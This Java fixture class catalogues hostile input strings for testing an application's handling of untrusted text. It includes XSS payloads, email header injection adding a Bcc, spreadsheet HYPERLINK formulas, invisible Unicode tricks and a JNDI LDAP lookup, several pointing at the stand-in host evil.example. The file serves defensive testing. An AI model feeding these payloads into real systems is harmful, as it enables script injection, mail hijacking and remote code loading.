package com.oodaloo.domain;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/// Texts that want to be more than text, in named families. An attacker who lures somebody to an
/// address lures them to `evil.example`.
public final class HostileStrings {
  public static final String LURE = "evil.example";

  private HostileStrings() {}

  /// One text and the family it is of.
  public record Hostile(String family, String text) {
    @Override
    public String toString() {
      return family;
    }
  }

  /// All families, each text alone and inside a name.
  public static List<Hostile> all() {
    List<Hostile> all = new ArrayList<>();
    add(all, "markup", markup());
    add(all, "attribute breaker", breakers());
    add(all, "bidi control", of(0x202A, 0x202E, "Lee %c009$ owed"));
    add(all, "bidi isolate", of(0x2066, 0x2069, "Lee %c009$ owed"));
    add(all, "zero width", of(0x200B, 0x200F, "ev%cil.example"));
    add(all, "invisible operator", of(0x2060, 0x2064, "ev%cil.example"));
    add(all, "line separator", of(0x2028, 0x2029, "Lee%cFORGED: yes"));
    add(all, "control", of(0x00, 0x1F, "Lee%cFORGED: yes"));
    add(all, "late control", of(0x7F, 0x8F, "Lee%cFORGED: yes"));
    add(all, "filler", Stream.of("\u00AD", "\u034F", "\u061C", "\u115F", "\u3164", "\uFEFF"));
    add(all, "auto-link", links());
    add(all, "header breaker", headers());
    add(all, "formula", formulas());
    add(all, "very long", Stream.of("A".repeat(20_000), "a\u0301".repeat(5_000)));
    add(all, "surrogate", Stream.of("\uD83D", "\uDE00", "\uDE00\uD83D", "x\uD83Dx"));
    add(all, "template", templates());
    return List.copyOf(all);
  }

  private static void add(List<Hostile> all, String family, Stream<String> texts) {
    texts.forEach(text -> {
      all.add(new Hostile(family, text));
      all.add(new Hostile(family + " in a name", "Lee " + text + " & Sons"));
    });
  }

  private static Stream<String> of(int from, int to, String around) {
    return IntStream.rangeClosed(from, to).mapToObj(code -> around.formatted(code));
  }

  private static Stream<String> markup() {
    return Stream.of(
        "<script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=javascript:alert(1)>pay</a>",
        "<form action=https://evil.example><button>Pay</button>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "&lt;script&gt;",
        "&#60;script&#62;",
        "<\u0000script>",
        "＜script＞");
  }

  private static Stream<String> breakers() {
    return Stream.of(
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)",
        "\"><b>",
        "'><b>",
        "` onclick=`",
        "\" style=\"display:none",
        "\" href=\"//evil.example",
        "javascript:alert(1)");
  }

  private static Stream<String> links() {
    return Stream.of(
        "http://evil.example",
        "HTTPS://EVIL.EXAMPLE/pay",
        "www.evil.example",
        "evil.example/pay",
        "pay@evil.example",
        "mailto:pay@evil.example",
        "ftp://evil.example",
        "//evil.example",
        "(evil.example)",
        "evil\u3002example",
        "evil\uFF0Eexample",
        "pay\uFF20evil.example",
        "ev\u00ADil.example");
  }

  private static Stream<String> headers() {
    return Stream.of(
        "\r\nBcc: all@evil.example",
        "\nBcc: all@evil.example",
        "\rBcc: all@evil.example",
        "\r\n\r\n<html>",
        "%0d%0aBcc: all@evil.example",
        "\u560D\u560ABcc: all@evil.example",
        "=?utf-8?q?=0D=0ABcc:=20all?=");
  }

  private static Stream<String> formulas() {
    return Stream.of("=", "+", "-", "@", "\t=", "\0=", " =", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20")
        .flatMap(
            start -> Stream.of(start + "1+1", start + "HYPERLINK(\"//evil.example\",\"pay\")"));
  }

  private static Stream<String> templates() {
    return Stream.of(
        "${7*7}",
        "$unsafe{view}",
        "@if(true)@endif",
        "@import java.util.List",
        "{{7*7}}",
        "#{7*7}",
        "<%= 7*7 %>",
        "%s %d %n",
        "{0}",
        "${jndi:ldap://evil.example/x}");
  }
}
